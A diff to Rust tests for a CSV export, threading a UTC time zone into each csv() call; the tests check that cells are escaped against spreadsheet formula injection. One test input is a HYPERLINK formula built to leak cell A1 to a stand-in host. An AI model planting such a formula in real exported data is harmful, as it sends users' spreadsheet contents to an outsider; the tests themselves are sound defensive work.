@@ -132,7 +132,7 @@ proptest! {
 
     #[test]
     fn csv_cells_are_visible_and_never_formulas(title in hostile()) {
-        let text = csv(&[row(&title)]);
+        let text = csv(&[row(&title)], &jiff::tz::TimeZone::UTC);
         assert_no_raw_control(text.trim_start_matches('\u{feff}'));
         let mut reader = ::csv::Reader::from_reader(text.as_bytes());
         let header = reader.headers().unwrap().clone();
@@ -265,7 +265,7 @@ fn common_safe(text: &str) {
 #[test]
 fn a_typed_formula_is_text_in_the_spreadsheet() {
     let formula = "=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")";
-    let text = csv(&[row(formula)]);
+    let text = csv(&[row(formula)], &jiff::tz::TimeZone::UTC);
     assert!(
         text.starts_with('\u{feff}'),
         "Excel needs the byte-order mark"
@@ -274,12 +274,12 @@ fn a_typed_formula_is_text_in_the_spreadsheet() {
     let record = reader.records().next().unwrap().unwrap();
     assert_eq!(&record[1], format!("'{formula}"));
     for start in ["+1", "-1", "@SUM(A1)"] {
-        let text = csv(&[row(start)]);
+        let text = csv(&[row(start)], &jiff::tz::TimeZone::UTC);
         let mut reader = ::csv::Reader::from_reader(text.as_bytes());
         let record = reader.records().next().unwrap().unwrap();
         assert_eq!(&record[1], format!("'{start}"));
     }
-    let text = csv(&[row("\tTab"), row("\rReturn")]);
+    let text = csv(&[row("\tTab"), row("\rReturn")], &jiff::tz::TimeZone::UTC);
     let mut reader = ::csv::Reader::from_reader(text.as_bytes());
     let titles: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_owned()).collect();
     assert_eq!(titles, ["\\u{9}Tab", "'\nReturn"]);
@@ -287,7 +287,10 @@ fn a_typed_formula_is_text_in_the_spreadsheet() {
 
 #[test]
 fn names_reach_the_spreadsheet_as_utf8() {
-    let text = csv(&[row("Søren Kjærgaard"), row("李梅")]);
+    let text = csv(
+        &[row("Søren Kjærgaard"), row("李梅")],
+        &jiff::tz::TimeZone::UTC,
+    );
     let bytes = text.as_bytes();
     assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
     let mut reader = ::csv::Reader::from_reader(bytes);
